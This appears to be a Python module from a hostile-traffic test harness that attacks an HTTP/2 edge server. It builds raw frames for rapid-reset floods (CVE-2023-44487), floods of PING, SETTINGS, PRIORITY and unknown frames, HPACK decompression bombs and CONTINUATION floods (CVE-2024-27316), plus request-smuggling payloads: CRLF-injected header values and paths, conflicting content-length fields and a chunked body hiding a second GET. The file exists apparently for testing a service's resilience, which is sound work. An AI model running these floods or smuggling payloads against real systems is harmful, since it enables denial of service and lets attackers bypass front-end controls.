"""Attacks over HTTP/2: floods of frames that cost nothing to send, header sections that grow when
they are read, and requests that HTTP/1.1 would read differently."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator, Callable
from typing import Final

from hpack import Decoder, HPACKError

from bench.hostile.http1 import CHAT, connection
from bench.hostile.target import Findings, Target, crowd

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS = range(5)
_PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION = range(6, 10)
_END_STREAM: Final = 0x1
_END_HEADERS: Final = 0x4
_FLOOD_FRAMES: Final = 20_000
"""Of one connection, unless the edge ends it before."""
_BURST_FRAMES: Final = 500
_STREAMS: Final = 200
"""Requests of one connection that are reset."""
_PATIENCE_S: Final = 3.0
"""For the edge to read what it was sent, before another connection sends as much."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """RFC 9113, section 4.1."""
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big")
    return head + payload


def integer(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """RFC 7541, section 5.1; `first`: the bits before the prefix."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes((first | value,))
    written, value = bytearray((first | most,)), value - most
    while value > 127:
        written.append(0x80 | value & 0x7F)
        value >>= 7
    written.append(value)
    return bytes(written)


def field(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A literal (RFC 7541, section 6.2), which goes into the dynamic table if it is `indexed`."""
    kind = b"\x40" if indexed else b"\x00"
    return kind + integer(len(name), 7) + name + integer(len(value), 7) + value


def section(*fields: tuple[bytes, bytes]) -> bytes:
    """A header section of literals."""
    return b"".join(field(name, value) for name, value in fields)


def pseudo(method: bytes = b"GET", path: bytes = b"/hidden") -> tuple[tuple[bytes, bytes], ...]:
    """The pseudo header fields of a request."""
    named = ((b":method", method), (b":scheme", b"http"), (b":authority", b"edge"))
    return (*named, (b":path", path))


class Http2:
    """One connection. What comes is read all the while."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._decoder = Decoder()
        self._changed = asyncio.Event()
        self.statuses: list[int] = []
        self.num_reset = 0
        self.is_ended = False
        """The edge has closed, or says that it does."""

    async def send(self, data: bytes) -> None:
        """Raises OSError where the edge has closed."""
        self._writer.write(data)
        await self._writer.drain()

    async def heard(self, timeout_s: float) -> None:
        """Return when a request was answered or reset, the edge has closed, or the time is over."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(timeout_s):
                while not (self.statuses or self.num_reset or self.is_ended):
                    self._changed.clear()
                    await self._changed.wait()

    async def read_on(self) -> None:
        """Until the connection ends."""
        try:
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] == _HEADERS:
                    fields = dict(self._decoder.decode(payload, raw=True))
                    self.statuses.append(int(fields.get(b":status", b"0")))
                self.num_reset += head[3] == _RST_STREAM
                self.is_ended |= head[3] == _GOAWAY
                self._changed.set()
        except (OSError, EOFError, HPACKError):
            self.is_ended = True
            self._changed.set()


@contextlib.asynccontextmanager
async def http2(target: Target, findings: Findings) -> AsyncIterator[Http2]:
    """A connection, aborted in the end; what it was answered is noted then."""
    with contextlib.suppress(OSError):
        async with connection(target) as (reader, writer):
            opened = Http2(reader, writer)
            reading = asyncio.create_task(opened.read_on())
            try:
                await opened.send(_PREFACE + frame(_SETTINGS, 0, 0))
                yield opened
            except OSError:
                opened.is_ended = True
            finally:
                reading.cancel()
                await asyncio.gather(reading, return_exceptions=True)
                for status in opened.statuses:
                    findings.answered(status)
                findings.count("streams reset by the edge", opened.num_reset)
                findings.count("connections ended by the edge", int(opened.is_ended))
    findings.count("connections")


async def rapid_resets(target: Target, seconds: float, findings: Findings) -> None:
    """Requests of chats that a key allows, each reset in the packet that begins it
    (CVE-2023-44487)."""
    fields = (
        (b"authorization", b"Bearer " + target.key.encode()),
        (b"content-type", b"application/json"),
    )
    chat = {"messages": [{"role": "user", "content": "Go on for ever."}], "max_tokens": 400}
    head, body = section(*pseudo(b"POST", CHAT.encode()), *fields), json.dumps(chat).encode()

    async def send(_: int) -> None:
        async with http2(target, findings) as opened:
            for number in range(1, 2 * _STREAMS, 2):
                begun = frame(_HEADERS, _END_HEADERS, number, head)
                if number % 4 == 1:
                    begun += frame(_DATA, _END_STREAM, number, body)
                await opened.send(begun + frame(_RST_STREAM, 0, number, bytes(4)))
            await opened.heard(_PATIENCE_S)

    await crowd(seconds, send, 4)


def _change(number: int) -> bytes:
    return frame(_SETTINGS, 0, 0, b"\x00\x04" + (1000 + number).to_bytes(4, "big"))


FLOODS: Final[tuple[Callable[[int], bytes], ...]] = (
    lambda _: frame(_PING, 0, 0, bytes(8)),
    _change,
    lambda _: frame(_DATA, 0, 1) + frame(_WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")),
    lambda number: frame(_PRIORITY, 0, 1 + 2 * number, bytes(4) + b"\x10"),
    lambda _: frame(0x7F, 0, 0, b"x"),
)
"""One frame or two with next to nothing in them, by number."""


async def control_floods(target: Target, seconds: float, findings: Findings) -> None:
    """Twenty thousand PINGs, SETTINGS, empty DATA, PRIORITY or unknown frames on each
    connection."""

    async def send(number: int) -> None:
        made = FLOODS[number % len(FLOODS)]
        async with http2(target, findings) as opened:
            await opened.send(frame(_HEADERS, _END_HEADERS, 1, section(*pseudo())))
            for at in range(0, _FLOOD_FRAMES, _BURST_FRAMES):
                if opened.is_ended:
                    break
                await opened.send(b"".join(map(made, range(at, at + _BURST_FRAMES))))
                findings.count("frames", _BURST_FRAMES)
            await opened.heard(_PATIENCE_S)

    await crowd(seconds, send, 4)


def header_bombs() -> list[bytes]:
    """A few bytes that stand for megabytes: a long field in the dynamic table, named thousands of
    times; tables resized, indices and integers beyond what there is; sections without an end."""
    big, plain = field(b"x", b"y" * 3900, indexed=True), section(*pseudo())
    return [
        big + b"\xbe" * 16_000,
        b"\x3f\xff\xff\xff\xff\x0f" + plain,
        b"\x20" * 5000 + plain,
        b"\xff" + b"\x80" * 5000 + b"\x01",
        integer(1 << 40, 7, 0x80),
        b"\x00" + integer(1 << 30, 7) + b"x",
        b"\x00\x81\xff\x81\xff",
        plain + b"".join(field(b"x%d" % n, b"y", indexed=True) for n in range(900)),
        plain + field(b"x", b"y" * 200) * 20_000,
    ]


async def header_floods(target: Target, seconds: float, findings: Findings) -> None:
    """HPACK that grows a thousandfold, and header sections of thousands of CONTINUATION frames
    (CVE-2024-27316)."""
    cases = header_bombs()

    async def send(number: int) -> None:
        case = cases[number % len(cases)]
        pieces = [case[at : at + 16_000] for at in range(0, len(case), 16_000)]
        async with http2(target, findings) as opened:
            for at, piece in enumerate(pieces):
                flags = (0 if at else _END_STREAM) | (_END_HEADERS if at == len(pieces) - 1 else 0)
                await opened.send(frame(_CONTINUATION if at else _HEADERS, flags, 1, piece))
            await opened.heard(0.2)

    await crowd(seconds, send, 4)


def ambiguous() -> list[tuple[tuple[tuple[bytes, bytes], ...], bytes]]:
    """Header fields and a body."""
    get, post = pseudo(), pseudo(b"POST", b"/tokenize")
    body = b"GET /hidden HTTP/1.1\r\n\r\n"
    return [
        ((*get, (b"x", b"y\r\nHost: other")), b""),
        ((*get, (b"x\r\ny", b"z")), b""),
        ((*get, (b"x", b"y\x00z")), b""),
        ((*get, (b"X", b"y")), b""),
        ((*post, (b"transfer-encoding", b"chunked")), b"0\r\n\r\n" + body),
        ((*post, (b"connection", b"transfer-encoding")), body),
        ((*post, (b"content-length", b"0")), body),
        ((*post, (b"content-length", b"5"), (b"content-length", b"6")), body),
        ((*post, (b"content-length", b"9" * 30)), body),
        ((*get, (b":path", b"/other")), b""),
        (((b"x", b"y"), *get), b""),
        (get[:3], b""),
        (pseudo(path=b""), b""),
        (pseudo(path=b"/a b HTTP/1.1\r\nx: y"), b""),
        (pseudo(b"GET / HTTP/1.1\r\nx:"), b""),
        (pseudo(b"CONNECT"), b""),
        ((*get, (b":status", b"200")), b""),
        ((*get, (b"x", b"y" * 15_000)), b""),
    ]


async def ambiguous_fields(target: Target, seconds: float, findings: Findings) -> None:
    """Requests that become two where HTTP/2 is translated to HTTP/1.1: line ends, lengths and
    codings in fields, names in upper case, pseudo header fields twice, late or missing."""
    cases = ambiguous()

    async def send(number: int) -> None:
        fields, data = cases[number % len(cases)]
        begun = frame(_HEADERS, _END_HEADERS | (0 if data else _END_STREAM), 1, section(*fields))
        async with http2(target, findings) as opened:
            await opened.send(begun + (frame(_DATA, _END_STREAM, 1, data) if data else b""))
            await opened.heard(0.5)

    await crowd(seconds, send, 4)
